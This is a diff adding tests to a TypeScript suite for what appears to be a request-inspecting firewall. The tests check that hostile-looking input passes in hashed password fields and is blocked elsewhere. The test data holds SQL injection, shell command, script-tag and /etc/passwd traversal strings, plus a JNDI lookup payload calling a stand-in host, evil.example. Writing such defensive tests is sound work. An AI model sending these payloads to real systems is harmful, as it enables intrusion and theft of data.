@@ -13,6 +13,12 @@ import {
 const { pkg } = shipped();
 const sentinel = createSentinel(pkg);
 
+/** A form of one field, posted to a path. */
+function posted(target: string, name: string, value: string): ReturnType<typeof formRequest> {
+  const body = `${name}=${encodeURIComponent(value)}`;
+  return { ...bodyRequest("application/x-www-form-urlencoded", body), target };
+}
+
 async function inspect(request: ReturnType<typeof formRequest>): Promise<Verdict> {
   return sentinel.inspectRequest(request, NO_OVERRIDES, 0);
 }
@@ -33,6 +39,33 @@ describe("the rules as shipped", () => {
       expect(["bounded", "linear"], rule).toContain(proof.complexity);
     }
     expect(report.expressions.length).toBeGreaterThan(50);
+  });
+});
+
+describe("passwords", () => {
+  const password = "p@$$w0rd;ls' or 1=1--<script>/../../etc/passwd";
+
+  test("may hold anything where the shop hashes them", async () => {
+    for (const [path, name] of [
+      ["/login", "password"],
+      ["/account/register", "passwd"],
+      ["/account/password", "new_password"],
+      ["/api/auth/login", "password_confirmation"],
+    ] as const) {
+      expect((await inspect(posted(path, name, password))).outcome, `${path} ${name}`).toBe("pass");
+    }
+  });
+
+  test("are looked at like all else elsewhere, under other names, in addresses, and for lookups", async () => {
+    for (const [path, name, value] of [
+      ["/search", "password", password],
+      ["/login", "password_file", password],
+      ["/login", "my.passwords", password],
+      ["/login?password=../../../etc/passwd", "a", "1"],
+      ["/login", "password", "${jndi:ldap://evil.example/a}"],
+    ] as const) {
+      expect((await inspect(posted(path, name, value))).outcome, `${path} ${name}`).toBe("block");
+    }
   });
 });
 
